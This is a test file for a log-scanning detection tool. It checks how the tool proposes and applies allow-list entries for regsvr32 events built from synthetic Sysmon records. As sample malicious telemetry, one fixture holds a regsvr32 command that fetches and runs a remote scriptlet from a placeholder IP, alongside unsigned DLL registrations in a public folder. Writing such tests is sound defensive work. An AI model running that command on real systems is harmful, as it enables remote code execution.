import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { whatran } from "../support/io.ts";
import { folder } from "../support/logs.ts";

const dir = folder();
const REGSVR32 = "C:\\Windows\\System32\\regsvr32.exe";
const sysmon = (EventID: number, key: number, fields: Record<string, unknown>) =>
  JSON.stringify({
    EventID,
    Channel: "Microsoft-Windows-Sysmon/Operational",
    Provider_Name: "Microsoft-Windows-Sysmon",
    Computer: `PC-${key % 7}.corp.example`,
    EventRecordID: 100 + 10 * key + EventID,
    UtcTime: `2024-05-0${1 + (key % 5)} 09:14:55.120`,
    ProcessGuid: `{${String(key).padStart(8, "0")}-0000-0000-0000-000000000000}`,
    ProcessId: 1000 + key,
    Image: REGSVR32,
    ...fields,
  });
/** A user's program registers its add-in; `signer` undefined: nobody has signed it. */
const registers = (key: number, file: string, signer: string | undefined, parent = "C:\\Windows\\explorer.exe") => [
  sysmon(1, key, {
    CommandLine: `regsvr32 /s ${file}`,
    ParentImage: parent,
    User: `CORP\\user${key}`,
    OriginalFileName: "REGSVR32.EXE",
  }),
  sysmon(7, key, {
    ImageLoaded: file,
    Signed: signer === undefined ? "false" : "true",
    Signature: signer ?? "-",
    SignatureStatus: signer === undefined ? "Unavailable" : "Valid",
  }),
];
const addIn = (key: number) => `C:\\Users\\user${key}\\AppData\\Local\\Orchard\\1.${key}.0\\addin.dll`;
const history = Array.from({ length: 9 }, (_, at) => registers(at + 1, addIn(at + 1), "Orchard GmbH")).flat();
const unsigned = [20, 21, 22].flatMap((key) => registers(key, `C:\\Users\\Public\\b${key}.dll`, undefined));
const scriptlets = [30, 31, 32].map((key) =>
  sysmon(1, key, { CommandLine: "regsvr32 /s /i:http://203.0.113.9/a.sct scrobj.dll" }),
);
let log = "";
let labels = "";
const at = { cwd: dir.path };

beforeAll(() => {
  log = dir.write("history.ndjson", `${[...history, ...unsigned, ...scriptlets].join("\n")}\n`);
  labels = join(dir.path, "labelled");
  mkdirSync(labels);
  writeFileSync(join(labels, "a.ndjson"), `${registers(40, addIn(40), "Orchard GmbH").join("\n")}\n`);
  const row = {
    file: "a.ndjson",
    record_ids: [501],
    ordinals: [0],
    event_id: [1],
    scope: "core",
    evidence: "process_creation",
  };
  writeFileSync(join(labels, "truth.jsonl"), `${JSON.stringify(row)}\n`);
});
afterAll(() => dir.remove());

describe("tune", () => {
  it("proposes an entry for what recurs, as narrow as it can be, and says what it would hide", async () => {
    const { out, code, err } = await whatran(["tune", log, "--json"], at);
    expect(code, err).toBe(0);
    const proposals = out
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(proposals).toHaveLength(1);
    expect(proposals[0]).toMatchObject({
      entry: {
        binary: "windows/regsvr32",
        behaviour: "register",
        signer: "orchard gmbh",
        directory: "c:\\users\\<user>\\appdata\\local\\orchard\\<version>",
        parent: "c:\\windows\\explorer.exe",
      },
      hides: { findings: 9 },
      lost: [],
    });
    expect(proposals[0].hides.hosts).toHaveLength(7);
    expect(proposals[0].entry.users).toBeUndefined();
  });

  it("leaves alone what anybody could imitate and what is never normal, and says so", async () => {
    const { out } = await whatran(["tune", log], at);
    expect(out).toMatch(/3 findings, as their files lie where anybody can put one/);
    expect(out).toContain("no file in a folder");
    expect(out).toMatch(/would hide 9 findings \(9 \w+\) on 7 hosts, 2024-05-01 to 2024-05-05/);
    expect(out).not.toContain("scrobj");
  });

  it("proposes what a scan takes once somebody answers for it, and the scan counts what was hidden", async () => {
    const bare = dir.write("bare.yaml", (await whatran(["tune", log], at)).out);
    const refused = await whatran(["scan", log, "--allow", bare], at);
    expect(refused).toMatchObject({ code: 2, out: "" });
    expect(refused.err).toMatch(/bare\.yaml:\d+:\d+: reason must be a text\n.*reason: ""\n +\^/);
    const { out } = await whatran(["tune", log, "--reason", "The add-in of CHG-118", "--author", "a.lang"], at);
    const allow = dir.write("allow.yaml", out);
    const count = async (...flags: string[]) =>
      (await whatran(["scan", log, "-m", "medium", ...flags], at)).out.trim().split("\n").length;
    expect((await count()) - (await count("--allow", allow))).toBe(9);
    const summary = join(dir.path, "summary.json");
    await whatran(["scan", log, "--allow", allow, "--summary", summary, "-C"], at);
    expect(JSON.parse(readFileSync(summary, "utf8")).allowed).toMatchObject([
      { hidden: 9, expired: false, file: allow },
    ]);
  });

  it("proposes nothing that hides a labelled true act, or what an analyst called true", async () => {
    const proven = await whatran(["tune", log, "--labels", labels], at);
    expect(proven.out).toMatch(/Not proposed: register in .*, as it would hide 1 finding known to be true/);
    expect(proven.out).toContain("allow: []");
    const scanned = (await whatran(["scan", log, "-m", "medium"], at)).out.trim().split("\n");
    const one = scanned.map((line) => JSON.parse(line)).find(({ commandLine }) => commandLine.includes("Orchard"));
    const file = join(dir.path, "said.ndjson");
    await whatran(["feedback", one.id, "true", "--file", file], at);
    expect((await whatran(["tune", log, "--feedback", file], at)).out).toContain("allow: []");
    await whatran(["feedback", one.id, "false", "--file", file], at);
    expect((await whatran(["tune", log, "--feedback", file], at)).out).toContain("- id:");
  });

  it("is refused without paths, with stdin, and with labels that are none", async () => {
    expect((await whatran(["tune"], at)).code).toBe(2);
    expect((await whatran(["tune", "-"], at)).code).toBe(2);
    expect((await whatran(["tune", log, "--times", "0"], at)).code).toBe(2);
    expect((await whatran(["tune", log, "--labels", dir.path], at)).err).toContain("truth.jsonl");
  });
});

describe("scan --allow", () => {
  const entry = (expires: string) => `allow:
  - id: add-in
    binary: regsvr32
    behaviour: register
    signer: Orchard GmbH
    directory: C:\\Users\\<user>\\AppData\\Local\\Orchard\\<version>
    reason: the add-in
    author: a.lang
    expires: ${expires}
`;

  it("says of expired entries that they do nothing", async () => {
    const allow = dir.write("old.yaml", entry("2024-01-31"));
    const { out, err } = await whatran(["scan", log, "--allow", allow, "-t", "table"], at);
    expect(out + err).toMatch(/Expired, and without effect: add-in \(2024-01-31\)\./);
    expect(out).toContain("addin.dll");
  });

  it("says on the screen what was hidden, and takes its lists from whatran.yaml too", async () => {
    dir.write("house.yaml", entry("2124-01-31"));
    dir.write("whatran.yaml", "scan:\n  allow: [house.yaml]\n");
    const { out, err } = await whatran(["scan", log, "-t", "table"], at);
    expect(out + err).toContain("The allow-list hid 9 findings: add-in 9.");
    expect(out).not.toContain("addin.dll");
    dir.write("whatran.yaml", "");
    const missing = await whatran(["scan", log, "--allow", "nowhere.yaml"], at);
    expect(missing).toMatchObject({ code: 2 });
  });
});
